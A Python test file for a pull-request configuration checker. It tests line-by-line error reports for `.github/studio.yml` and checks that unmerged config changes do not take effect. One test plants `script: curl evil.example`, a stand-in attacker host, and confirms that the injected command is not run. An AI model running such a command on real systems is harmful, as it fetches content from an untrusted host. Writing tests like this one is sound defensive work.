"""A pull request that changes `.github/studio.yml` hears what is wrong in it before it is merged."""

from tests.world.world import PullRequest, World

PATH = ".github/studio.yml"
MISTAKEN = "primary: accuracy\nmetrics:\n  accuracy: {better: lowr}\ngate:\n  - {metric: accuracy, at_leest: 0.9}\n"


def test_each_mistake_is_told_with_its_line_where_it_is_made(world: World, pull: PullRequest) -> None:
    pull.push({PATH: MISTAKEN})
    world.work()
    overview = pull.overview
    assert "This pull request changes `.github/studio.yml`, and several mistakes are in it" in overview
    assert "line 3: `metrics.accuracy.better` is `higher` or `lower`, and not `lowr`" in overview
    assert "line 5: there is no `gate[1].at_leest`: did you mean `at_least`?" in overview
    pull.push({PATH: "primary: accuracy\ngate: {metric: accuracy, at_least: 0.99}\n"})
    world.work()
    assert "and nothing is wrong in it" in pull.overview
    assert (
        "After the merge other values hold for `metrics`, `gate`. Until then `main` says what holds." in pull.overview
    )


def test_what_it_would_be_does_not_hold_before_the_merge(world: World, pull: PullRequest) -> None:
    pull.push({PATH: "gate: {metric: accuracy, at_least: 0.99}\nscript: curl evil.example\n"})
    world.work()
    status = pull.status()
    assert status
    assert status.state == "success", "its accuracy is 0.9, and the gate would not hold"
    pull.comment("/run -S train.lr=0.2 -n held")
    (run,) = pull.runs
    assert run.experiment.script == ""


def test_a_pull_request_that_leaves_the_file_alone_hears_nothing_of_it(world: World) -> None:
    pull = world.pull_request(contents={PATH: "metrics: {accuracy: {better: lowr}}\n"})
    pull.push({"README.md": "# More\n"})
    world.work()
    assert "This pull request changes" not in pull.overview
    told = "`.github/studio.yml`, line 1: `metrics.accuracy.better` is `higher` or `lower`, and not `lowr`"
    assert told in pull.overview, "what is wrong on the base branch is told to all"
